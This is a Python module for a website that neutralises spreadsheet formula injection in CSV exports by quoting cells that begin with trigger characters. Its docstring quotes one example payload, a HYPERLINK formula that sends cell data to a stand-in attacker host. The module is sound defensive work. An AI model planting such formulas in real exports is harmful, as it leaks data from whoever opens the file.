"""Spreadsheet-safe CSV: the one place where the site writes CSV cells.

Excel, LibreOffice Calc and Google Sheets read a cell that starts with ``=``,
``+``, ``-`` or ``@`` (and, depending on the program, a tab, carriage return,
line feed or NUL before one) as a formula. A customer's name, a transaction's
note or order reference, a staff PIN's name are typed by people outside the
back office; exported unchanged, ``=HYPERLINK("https://evil.example/?"&A2)``
runs on the computer of whoever opens the file. As OWASP recommends, such a
text cell is prefixed with a single quote, which spreadsheets show as text.

Every CSV writer of the project uses :class:`SafeCsvWriter` (or
:func:`csv_safe_cell` per cell); none calls ``csv.writer`` directly.
"""

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def csv_safe_cell(value: Any) -> Any:
    """``value`` made safe to open in a spreadsheet: a text starting with a formula trigger gets a leading ``'``.

    Only ``str`` values are touched. Numbers (``int``, ``Decimal``, ``float``)
    are written as they are, so a negative delta such as ``-5`` stays the
    number -5 in a numeric column; a spreadsheet cannot run a number. Text that
    merely looks like a number (an order reference ``"-5"``) is text, and is
    prefixed like any other.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through :func:`csv_safe_cell`.

    ``writerow`` returns what the file's ``write`` returned, as ``csv.writer``
    does, so a file object that hands its line back can feed a streamed response.
    """

    def __init__(self, file, dialect: str | type[csv.Dialect] = "excel", **options):
        self._writer = csv.writer(file, dialect, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([csv_safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
